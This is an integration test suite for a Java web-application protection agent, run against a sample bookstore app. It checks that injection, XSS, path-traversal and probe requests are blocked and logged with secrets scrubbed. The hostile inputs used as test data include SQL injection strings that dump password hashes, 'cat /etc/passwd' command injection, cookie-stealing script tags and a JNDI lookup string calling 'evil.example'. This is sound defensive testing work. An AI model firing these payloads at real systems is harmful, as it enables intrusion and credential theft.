package io.palisade.it.server;

import static org.assertj.core.api.Assertions.assertThat;

import static org.awaitility.Awaitility.await;

import com.sun.net.httpserver.HttpExchange;
import com.sun.net.httpserver.HttpServer;
import java.io.IOException;
import java.net.InetSocketAddress;
import java.time.Duration;
import java.util.List;
import java.util.concurrent.CopyOnWriteArrayList;
import java.net.URL;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import org.jboss.arquillian.container.test.api.Deployment;
import org.jboss.arquillian.junit5.ArquillianExtension;
import org.jboss.arquillian.test.api.ArquillianResource;
import org.jboss.shrinkwrap.api.spec.WebArchive;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;

/**
 * The sample WAR with the agent on a real server, driven over HTTP on 127.0.0.1, reporting to a
 * backend that this test runs on 127.0.0.1.
 */
@ExtendWith(ArquillianExtension.class)
class ServerBookstoreIT {

    private static final String BEARER = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJhbGljZSJ9.c2VydmVyLXNpZGUtc2VjcmV0";
    private static final List<String> LOGINS = new CopyOnWriteArrayList<>();
    private static final List<String> BATCHES = new CopyOnWriteArrayList<>();
    private static HttpServer backend;

    @Deployment(testable = false)
    static WebArchive deployment() throws IOException {
        // Runs in this JVM before the deployment: the WAR is configured with this backend's address.
        backend = HttpServer.create(new InetSocketAddress("127.0.0.1", 0), 0);
        backend.createContext("/v1/agents/login", exchange -> keep(exchange, LOGINS, "{\"agent_id\":\"server-1\"}"));
        backend.createContext("/v1/batches", exchange -> keep(exchange, BATCHES, "{}"));
        backend.start();
        return SampleWar.create("palisade.backend.url=http://127.0.0.1:" + backend.getAddress().getPort() + "\n"
                + "palisade.backend.token=it-token\npalisade.reporter.interval=500ms\n"
                + "palisade.trusted-proxies=127.0.0.1,::1\npalisade.ip.denylist=203.0.113.0/24\n"
                // What the rules detect is under test here, not the time budget, which a busy
                // machine may overrun (the rules past it are then skipped by design).
                + "palisade.budget=1s\n");
    }

    private static void keep(HttpExchange exchange, List<String> into, String answer) throws IOException {
        try (exchange) {
            into.add(new String(exchange.getRequestBody().readAllBytes(), StandardCharsets.UTF_8));
            byte[] bytes = answer.getBytes(StandardCharsets.UTF_8);
            exchange.sendResponseHeaders(200, bytes.length);
            exchange.getResponseBody().write(bytes);
        }
    }

    @AfterAll
    static void stopBackend() {
        if (backend != null) {
            backend.stop(0);
        }
    }

    @ArquillianResource
    URL deployed;

    private HttpResponse<String> get(String pathAndQuery, String... headers) throws Exception {
        return new ServerHttp(deployed).get(pathAndQuery, headers);
    }

    private HttpResponse<String> post(String path, String type, String body) throws Exception {
        return new ServerHttp(deployed).post(path, type, body);
    }

    private static String q(String value) {
        return ServerHttp.q(value);
    }

    @Test
    void benignRequestsAnswerNormally() throws Exception {
        HttpResponse<String> search = get("api/books/search?q=Emma");
        assertThat(search.statusCode()).isEqualTo(200);
        assertThat(search.body()).contains("\"title\":\"Emma\"");
        assertThat(get("api/safe/books/search?q=" + q("x' OR 1=1 --")).body()).isEqualTo("[]");
    }

    @Test
    void theApplicationStillReceivesFormAndJsonBodies() throws Exception {
        String text = "Read it twice -- worth it; 10/10";
        assertThat(post("api/books/4/reviews", "application/x-www-form-urlencoded", "author=dan&text=" + q(text)).statusCode())
                .isEqualTo(201);
        assertThat(get("api/books/4/reviews").body()).contains(text);
        assertThat(post("api/login", "application/json", "{\"username\":\"alice\",\"password\":\"nope\"}").statusCode())
                .isEqualTo(401);
    }

    @Test
    void injectionsThroughEveryInputAreBlocked() throws Exception {
        String before = get("api/books/stats").body();
        assertThat(before).startsWith("{\"books\":50,\"users\":2,");
        assertBlocked(get("api/books/search?q=" + q("x' OR 1=1 OR 'a'='")));
        assertBlocked(get("api/books/" + q("1 OR 1=1")));
        assertBlocked(get("api/books?sort=" + q("(CASE WHEN 1=1 THEN title ELSE author END)")));
        assertBlocked(post("api/login", "application/json", "{\"username\":\"alice' --\",\"password\":\"x\"}"));
        assertBlocked(post("api/books/2/reviews", "application/x-www-form-urlencoded", "author=eve&text=" + q("x'), (3, 'eve', 'spam")));
        assertBlocked(get("api/me", "Cookie", "session=x' OR '1'='1"));
        assertBlocked(get("api/books/by-publisher", "X-Publisher", "x' OR 1=1 --"));
        assertBlocked(get("api/books/by-author?author=" + q("x'; DELETE FROM users; --")));
        assertBlocked(get("api/books/by-author?author=" + q("x' UNION SELECT id, username, password_hash, 0 FROM users --")));
        assertBlocked(get("api/books/batch?ids=" + q("0) OR (1=1")));
        assertBlocked(get("api/books/columns?name=" + q("(SELECT password_hash FROM users WHERE id = 1)")));
        assertThat(get("api/books/stats").body()).as("the database is unchanged").isEqualTo(before);
    }

    @Test
    void aBlockedAttackReachesTheBackendScrubbed() throws Exception {
        HttpResponse<String> blocked = get("api/books/search?q=" + q("zz' UNION SELECT username FROM users --"),
                "Authorization", "Bearer " + BEARER);
        assertBlocked(blocked);
        String requestId = blocked.body().replaceAll(".*\"request_id\":\"([0-9a-f]+)\".*", "$1");
        await().atMost(Duration.ofSeconds(30)).until(() -> BATCHES.stream().anyMatch(b -> b.contains(requestId)));
        String batch = BATCHES.stream().filter(b -> b.contains(requestId)).findFirst().orElseThrow();
        assertThat(batch).contains("\"agent_id\":\"server-1\"", "\"rule_id\":\"sqli-structure\"", "\"blocked\":true",
                "\"path\":\"/api/books/search\"", "zz' UNION SELECT username FROM users --");
        assertThat(LOGINS).isNotEmpty();
        assertThat(LOGINS.get(0)).contains("\"application\":\"io.palisade.sample.bookstore\"",
                "jaxrs:io.palisade.sample.bookstore.BookResource#search(java.lang.String)");
        assertThat(String.join("\n", BATCHES)).doesNotContain(BEARER).doesNotContain("c2VydmVyLXNpZGUtc2VjcmV0");
    }

    @Test
    void requestAttacksAreBlockedBeforeTheResourceAndTheClientIsTheSocketPeer() throws Exception {
        String before = get("api/books/stats").body();
        HttpResponse<String> xss = get("api/books/search?q=" + q("<script>alert(document.cookie)</script>"));
        assertBlocked(xss);
        assertBlocked(get("api/books/search?q=" + q("../../../../etc/passwd")));
        assertBlocked(get("api/me", "Cookie", "session=" + q("x; cat /etc/passwd")));
        assertBlocked(get("api/books/search?q=Emma", "User-Agent", "sqlmap/1.8.2#stable (https://sqlmap.org)"));
        assertBlocked(post("api/books/3/reviews", "application/x-www-form-urlencoded",
                "author=eve&text=" + q("<img src=x onerror=alert(1)>")));
        // A client behind a trusted proxy (this test, on 127.0.0.1) is named by X-Forwarded-For.
        assertBlocked(get("api/books/search?q=Emma", "X-Forwarded-For", "203.0.113.9"));
        assertThat(get("api/books/search?q=Emma", "X-Forwarded-For", "198.51.100.20").statusCode()).isEqualTo(200);
        assertThat(get("api/books/stats").body()).as("no review was stored").isEqualTo(before);

        String requestId = xss.body().replaceAll(".*\"request_id\":\"([0-9a-f]+)\".*", "$1");
        await().atMost(Duration.ofSeconds(30)).until(() -> BATCHES.stream().anyMatch(b -> b.contains(requestId)));
        String batch = BATCHES.stream().filter(b -> b.contains(requestId)).findFirst().orElseThrow();
        assertThat(batch).contains("\"rule_id\":\"xss-exploit\"", "\"hook_point\":\"request\"", "\"blocked\":true");
        // The socket peer, read from the servlet request: loopback in IPv4 or IPv6 form.
        assertThat(batch).containsAnyOf("\"client_ip\":\"127.0.0.1\"", "\"client_ip\":\"::1\"");
        await().atMost(Duration.ofSeconds(30)).until(() -> String.join("", BATCHES).contains("\"client_ip\":\"203.0.113.9\""));
    }

    @Test
    void theHookTableIsLoggedAndSentToTheBackendAtStart() throws Exception {
        assertThat(get("api/books/search?q=Emma").statusCode()).isEqualTo(200);
        await().atMost(Duration.ofSeconds(30)).until(() -> !LOGINS.isEmpty());
        String login = LOGINS.get(0);
        assertThat(login.split("\"jaxrs:", -1)).as("resource methods in the login").hasSize(34);
        assertThat(login.split("\"jdbc:", -1)).as("JDBC hook points in the login").hasSize(27);
        assertThat(login.split("\"jpa:", -1)).as("JPA hook points in the login").hasSize(6);
        // Where the server writes its log to a file (Payara Micro's goes to the adapter's console).
        String serverLog = System.getProperty("server.log");
        if (serverLog != null) {
            assertThat(java.nio.file.Files.readString(java.nio.file.Path.of(serverLog))).contains(
                    "PAL2010: Palisade hook table frozen: 64 hook points (33 JAX-RS resource methods, 26 JDBC, 5 JPA)");
        }
    }

    @Test
    void jpaInjectionsAreBlockedAtTheirJpaHookPoint() throws Exception {
        String before = get("api/books/stats").body();
        for (ServerEvasions.Evasion attack : ServerJpa.attacks()) {
            assertBlocked(attack.call().send(new ServerHttp(deployed)));
        }
        assertThat(get("api/books/stats").body()).as("the database is unchanged").isEqualTo(before);
        assertThat(get("api/jpa/books/search?q=Emma").body()).contains("\"title\":\"Emma\"");
        assertThat(get("api/jpa/books/3").body()).contains("Moby-Dick");
        assertThat(get("api/jpa/books/native?author=" + q("Bram Stoker")).body()).contains("Dracula");
        for (String payload : List.of("x' or '1'='1", "x' UNION SELECT id, password_hash, username, 0 FROM users --",
                "O'Brien", "ORDER BY id")) {
            assertThat(get("api/safe/jpa/books/by-author?author=" + q(payload)).body()).as(payload).isEqualTo("[]");
            assertThat(get("api/safe/jpa/books/native?author=" + q(payload)).body()).as(payload).isEqualTo("[]");
            assertThat(get("api/safe/jpa/books/search?q=" + q(payload)).statusCode()).as(payload).isEqualTo(200);
        }
        HttpResponse<String> blocked = get("api/jpa/books/by-author?author=" + q("zz' or '1'='1"));
        assertBlocked(blocked);
        HttpResponse<String> nativeBlocked = get("api/jpa/books/native?author=" + q("zz' OR 1=1 --"));
        assertBlocked(nativeBlocked);
        for (HttpResponse<String> response : List.of(blocked, nativeBlocked)) {
            String requestId = response.body().replaceAll(".*\"request_id\":\"([0-9a-f]+)\".*", "$1");
            await().atMost(Duration.ofSeconds(30)).until(() -> BATCHES.stream().anyMatch(b -> b.contains(requestId)));
        }
        String batches = String.join("\n", BATCHES);
        assertThat(batches).contains("\"hook_point\":\"" + ServerJpa.CREATE_QUERY + "\"",
                "\"hook_point\":\"" + ServerJpa.CREATE_NATIVE_QUERY + "\"");
    }

    @Test
    void probesAtPathsTheApplicationDoesNotRouteAreInspected() throws Exception {
        assertThat(get("no/such/page").statusCode()).as("an ordinary unknown page").isEqualTo(404);
        assertBlocked(get(".env"));
        assertBlocked(get("wp-login.php"));
        assertBlocked(get("no/such/page?file=" + q("../../../../etc/passwd")));
    }

    @Test
    void reflectedXssIsStoppedAtTheResponse() throws Exception {
        String payload = "<b onmouseover=steal()>hover</b>"; // the request rules only report this shape
        assertBlocked(get("api/books/preview?title=" + q(payload)));
        HttpResponse<String> streamed = get("api/books/preview/stream?title=" + q(payload));
        assertThat(streamed.body()).as("a streamed page is replaced").doesNotContain(payload).contains("Request blocked");
        HttpResponse<String> twin = get("api/safe/books/preview?title=" + q(payload));
        assertThat(twin.statusCode()).isEqualTo(200);
        assertThat(twin.body()).contains("&lt;b onmouseover=steal()&gt;");
        // A page a servlet writes, outside JAX-RS.
        HttpResponse<String> servlet = get("servlet/preview?title=" + q(payload), "Accept", "text/html");
        assertThat(servlet.statusCode()).isEqualTo(403);
        assertThat(servlet.body()).contains("Request blocked").doesNotContain(payload);
        HttpResponse<String> plain = get("servlet/preview?title=" + q("Emma <3 & Mr. Knightley"));
        assertThat(plain.statusCode()).isEqualTo(200);
        assertThat(plain.body()).contains("<p>Emma <3 & Mr. Knightley</p>");
    }

    @Test
    void aServletOutsideJaxRsIsProtectedToo() throws Exception {
        HttpResponse<String> search = get("servlet/books?q=Emma");
        assertThat(search.statusCode()).isEqualTo(200);
        assertThat(search.body()).contains("Emma");
        assertThat(get("servlet/books?q=" + q("O'Brien")).statusCode()).as("an apostrophe breaks its SQL").isIn(403, 500);
        String before = get("api/books/stats").body();
        assertBlocked(get("servlet/books?q=" + q("x' OR 1=1 OR 'a'='")));
        assertBlocked(get("servlet/books?q=" + q("zz' UNION SELECT id, username, password_hash, 0 FROM users --")));
        assertBlocked(get("servlet/books?q=Emma", "User-Agent", "${jndi:ldap://evil.example/a}"));
        assertThat(get("api/books/stats").body()).isEqualTo(before);
    }

    private static void assertBlocked(HttpResponse<String> response) {
        assertThat(response.statusCode()).as(response.uri().toString()).isEqualTo(403);
        assertThat(response.body()).matches("\\{\"error\":\"request blocked\",\"request_id\":\"[0-9a-f]{16}\"}");
    }
}
